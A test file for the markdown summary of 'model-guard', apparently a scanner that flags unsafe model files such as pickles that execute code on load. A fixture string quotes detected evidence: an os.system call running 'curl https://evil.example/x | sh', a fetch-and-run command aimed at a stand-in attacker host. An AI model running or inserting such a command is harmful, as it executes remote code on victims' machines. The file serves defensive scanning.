import { describe, expect, it } from 'vitest';
import { markdown } from '../../src/report/markdown.ts';
import { summary } from '../../src/report/summary.ts';
import { read, realistic, reportOf } from './samples.ts';

const EVIDENCE =
  'calls os.system&#40;&#34;curl https&#58;&#8203;//evil.example/x &#124; sh&#34;&#41; when loaded &#40;REDUCE at byte 41&#41;';
const FIX = 'Do not load it. Ask its author for <code>safetensors</code> weights.';
const HEAD = '| Severity | Where | What it does | Fix | Rule |\n| --- | --- | --- | --- | --- |';

describe('summary', () => {
  it('gives the decision first, then what it is made of', () => {
    expect(summary(realistic())).toBe(`# model-guard

❌ **Blocked**: 1 finding is CRITICAL, and CRITICAL blocks

New in this change: **1** critical, **1** medium, **1** low. Waived: 1. Already present: 1. Not inspected: 1.

## Blocked

${HEAD}
| 🔴 CRITICAL | <code>models/a.pt &#62; archive/data.pkl &#64; byte 41</code> | <b>Runs a command when loaded</b><br>${EVIDENCE} (also at bytes 90, 120) | ${FIX} | <code>PICKLE-EXEC</code> |

## Needs review

${HEAD}
| 🟡 MEDIUM | <code>train.ipynb&#58;40&#58;5 in cell 3</code> | <b>Runs a shell command</b><br>cell 3 runs &#33;pip install <span>&#36;</span>PKG<br>Owners: <code>&#64;&#8203;org/ml-security</code> | Pin the package. | <code>NOTEBOOK-SHELL</code> |

## Not inspected

| Where | Status | Reason |
| --- | --- | --- |
| <code>big.bin</code> | not read | its LFS object was not fetched (not-fetched) |

## Notices

| Notice |
| --- |
| exception 2 for PICKLE-EXEC expired on 2026-01-01 |

<details><summary>Notes (1)</summary>

${HEAD}
| 🔵 LOW | <code>models/a.pt</code> | <b>Uses pickle</b><br>is a pickle | ${FIX} | <code>PICKLE-FORMAT</code> |

</details>

<details><summary>Waived (1)</summary>

${HEAD}
| 🟠 HIGH | <code>old.pkl &#64; byte 2</code> | <b>Runs a command when loaded</b><br>${EVIDENCE}<br><i>exception until 2027-01-01&#58; reviewed by hand</i><br>Waived by <code>&#64;&#8203;org/owner</code> | ${FIX} | <code>PICKLE-EXEC</code> |

</details>

<details><summary>Already present (1)</summary>

${HEAD}
| 🟠 HIGH | <code>older.pkl &#64; byte 2</code> | <b>Runs a command when loaded</b><br>${EVIDENCE} | ${FIX} | <code>PICKLE-EXEC</code> |

</details>

<sub>3 files, 5.3 MB, 1.3 s</sub>
`);
  });

  it('says so when everything was read', () => {
    expect(summary(reportOf({ coverage: [read()] }))).toBe(`# model-guard

✅ **Passed**: nothing in this change needs attention

New in this change: no findings.

## Not inspected

Everything that changed was read to its end.

<sub>3 files, 5.3 MB, 1.3 s</sub>
`);
  });

  it('lists every reason of an artifact, and an artifact that gives none', () => {
    const incomplete = [
      { code: 'broken', reason: 'ends in the middle', risk: 'runs-code', offset: 9 },
      { code: 'budget', reason: 'too deep', risk: 'unknown' },
    ] as const;
    const output = summary(
      reportOf({
        coverage: [
          read({ locator: { path: 'a.zip', members: ['b', 'c'] }, status: 'partial', incomplete }),
          read({ locator: { path: 'd', members: [] }, status: 'not-inspected' }),
        ],
      }),
    );
    expect(output).toContain(
      '| <code>a.zip &#62; b &#62; c &#64; byte 9</code> | read in part | ends in the middle (broken) |\n' +
        '| <code>a.zip &#62; b &#62; c</code> | read in part | too deep (budget) |\n' +
        '| <code>d</code> | not read | no reason was given (unreadable) |\n',
    );
  });
});

describe('markdown', () => {
  it('is the summary with the marker of the comment before it', () => {
    expect(markdown(realistic())).toBe(`<!-- model-guard -->\n${summary(realistic())}`);
  });
});
